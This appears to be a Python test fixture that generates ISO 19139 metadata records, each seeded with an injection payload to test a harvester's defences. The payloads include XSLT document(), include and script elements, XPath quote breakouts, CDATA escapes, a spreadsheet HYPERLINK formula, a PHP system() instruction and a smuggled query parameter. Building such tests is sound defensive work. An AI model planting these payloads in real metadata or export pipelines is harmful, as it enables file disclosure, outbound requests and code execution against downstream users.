"""ISO 19139 records whose faults are repaired by the harvest, and that contain code for whoever
reads an export.

Used by the tests, and by the class `exports` of the attacks.
"""

from __future__ import annotations

from xml.sax.saxutils import escape, quoteattr

NAMESPACES = {
    "gmd": "http://www.isotc211.org/2005/gmd",
    "gco": "http://www.isotc211.org/2005/gco",
    "gmx": "http://www.isotc211.org/2005/gmx",
    "gml": "http://www.opengis.net/gml/3.2",
    "xlink": "http://www.w3.org/1999/xlink",
    "xsl": "http://www.w3.org/1999/XSL/Transform",
    "alias": "http://www.w3.org/1999/XSL/Transform",
    "exsl": "http://exslt.org/common",
    "func": "http://exslt.org/functions",
    "dyn": "http://exslt.org/dynamic",
    "saxon": "http://saxon.sf.net/",
    "xalan": "http://xml.apache.org/xalan",
    "msxsl": "urn:schemas-microsoft-com:xslt",
    "java": "http://saxon.sf.net/java-type",
    "xi": "http://www.w3.org/2001/XInclude",
}
#: Address of a file that would add parameters to the data source of a layer.
ADDRESS = "https://a.example/x.gpkg|layername=attaque|option:LIST_ALL_TABLES=YES authcfg='attaque'"
#: What stylesheets are made of; {url} is the address that must not be read.
ELEMENTS = {
    "copy-of document()": """<xsl:copy-of select="document('{url}')"/>""",
    "another prefix": """<alias:copy-of select="document('{url}')"/>""",
    "a default namespace": """<copy-of xmlns="http://www.w3.org/1999/XSL/Transform" select="document('{url}')"/>""",
    "unparsed-text()": """<xsl:value-of select="unparsed-text('{url}')"/>""",
    "doc()": """<xsl:sequence select="doc('{url}')"/>""",
    "include": """<xsl:include href="{url}"/>""",
    "import": """<xsl:import href="{url}"/>""",
    "result-document": """<xsl:result-document href="{url}">x</xsl:result-document>""",
    "exsl:document": """<exsl:document href="{url}">x</exsl:document>""",
    "func:script": """<func:script implements-prefix="java" language="javascript" src="{url}"/>""",
    "msxsl:script": """<msxsl:script language="C#" implements-prefix="java">x</msxsl:script>""",
    "xalan:script": """<xalan:component prefix="java"><xalan:script src="{url}"/></xalan:component>""",
    "dyn:evaluate": """<xsl:copy-of select="dyn:evaluate(&quot;document('{url}')&quot;)"/>""",
    "saxon:evaluate": """<xsl:copy-of select="saxon:evaluate(&quot;document('{url}')&quot;)"/>""",
    "evaluate": """<xsl:evaluate xpath="&quot;document('{url}')&quot;"/>""",
    "system-property": """<xsl:value-of select="system-property('user.dir')"/>""",
    "message": """<xsl:message terminate="yes">x</xsl:message>""",
    "variable": """<xsl:variable name="x" select="document('{url}')"/><xsl:copy-of select="$x"/>""",
    "XInclude": """<xi:include href="{url}" parse="text"/>""",
    "value template": """<gco:CharacterString title="{{document('{url}')}}"/>""",
    "processing instruction": """<?xml-stylesheet href="{url}"?><?php system('x') ?>""",
    "comment": """<!-- --><xsl:copy-of select="document('{url}')"/><!-- -->""",
    "end of CDATA": """<![CDATA[]]]]><![CDATA[><xsl:copy-of select="document('{url}')"/>]]>""",
    "a namespace that is code": """<x:x xmlns:x="urn:x:document('{url}')" x:x="{{document('{url}')}}"/>""",
}
#: Attributes of the element to correct.
ATTRIBUTES = {
    "codeList": """{{document('{url}')}}""",
    "codeSpace": """{{document('{url}')}}""",
    "xsl:use-attribute-sets": "x",
    "xsl:version": "3.0",
    "xsl:extension-element-prefixes": "func msxsl saxon xalan",
    "xlink:href": """{{document('{url}')}}""",
    "xlink:title": """{{unparsed-text('{url}')}}""",
}
#: Identifiers: what a stylesheet compares, and each line of every export repeats.
IDENTIFIERS = {
    "apostrophes": "x' or document('{url}') or 'x",
    "quotes": """x" or document("{url}") or "x""",
    "both kinds of quotes": """x'"] | document('{url}') | *["'""",
    "markup": """x"><xsl:include href="{url}"/><x a=\"""",
    "braces": "{{document('{url}')}}",
    "end of CDATA": "]]>",
    "formula": """=HYPERLINK("{url}";"x")""",
    "a second parameter": "x&uuids=other&updateDateStamp=false",
}


def _record(
    identifier: str,
    inside: str = "",
    attributes: str = "",
    holder: str = "gmd:MD_TopicCategoryCode",
) -> str:
    declared = " ".join(f"xmlns:{prefix}={quoteattr(uri)}" for prefix, uri in NAMESPACES.items())
    return f"""<gmd:MD_Metadata {declared}>
      <gmd:fileIdentifier><gco:CharacterString>{escape(identifier)}</gco:CharacterString></gmd:fileIdentifier>
      <gmd:language><gmd:LanguageCode codeListValue="fr"{attributes}>{inside}</gmd:LanguageCode></gmd:language>
      <gmd:identificationInfo><gmd:MD_DataIdentification><gmd:citation><gmd:CI_Citation>
        <gmd:title><gco:CharacterString>{escape(identifier)}</gco:CharacterString></gmd:title>
        <gmd:date><gmd:CI_Date><gmd:date><gco:Date{attributes}>20201015{inside}</gco:Date></gmd:date></gmd:CI_Date>
        </gmd:date></gmd:CI_Citation></gmd:citation>
        <gmd:abstract><gco:CharacterString>Zones humides.</gco:CharacterString></gmd:abstract>
        <gmd:topicCategory><{holder}{attributes}>agriculture{inside}</{holder}></gmd:topicCategory>
      </gmd:MD_DataIdentification></gmd:identificationInfo>
      <gmd:distributionInfo><gmd:MD_Distribution><gmd:transferOptions><gmd:MD_DigitalTransferOptions>
        <gmd:onLine><gmd:CI_OnlineResource><gmd:linkage><gmd:URL>{escape(ADDRESS)}</gmd:URL></gmd:linkage>
        <gmd:name><gco:CharacterString>{escape(identifier)}</gco:CharacterString></gmd:name>
        </gmd:CI_OnlineResource></gmd:onLine>
      </gmd:MD_DigitalTransferOptions></gmd:transferOptions></gmd:MD_Distribution></gmd:distributionInfo>
    </gmd:MD_Metadata>"""


def records(url: str) -> dict[str, str]:
    """Return records by the attempt that each makes, and each with an identifier of its own.

    Args:
        url: address that nobody must read: `http:` or `file:`.
    """
    found: dict[str, str] = {}
    for name, element in ELEMENTS.items():
        found[f"element: {name}"] = _record(f"element {name}", element.format(url=url))
    for name, value in ATTRIBUTES.items():
        attribute = f" {name}={quoteattr(value.format(url=url))}"
        found[f"attribute: {name}"] = _record(f"attribute {name}", attributes=attribute)
    for name, identifier in IDENTIFIERS.items():
        found[f"identifier: {name}"] = _record(identifier.format(url=url))
    value_of = f"""xsl:value-of select="document('{url}')\""""
    found["type: an instruction"] = (
        _record("type", holder="gmd:X")
        .replace("<gmd:X", f"<{value_of}")
        .replace("</gmd:X>", "</xsl:value-of>")
    )
    found["path: an instruction"] = (
        _record("path")
        .replace("<gmd:topicCategory>", "<xsl:if test='1'><gmd:topicCategory>")
        .replace("</gmd:topicCategory>", "</gmd:topicCategory></xsl:if>")
    )
    found["path: an odd name"] = (
        _record("path 2")
        .replace("<gmd:topicCategory>", "<gmd:a·document><gmd:topicCategory>")
        .replace("</gmd:topicCategory>", "</gmd:topicCategory></gmd:a·document>")
    )
    return found
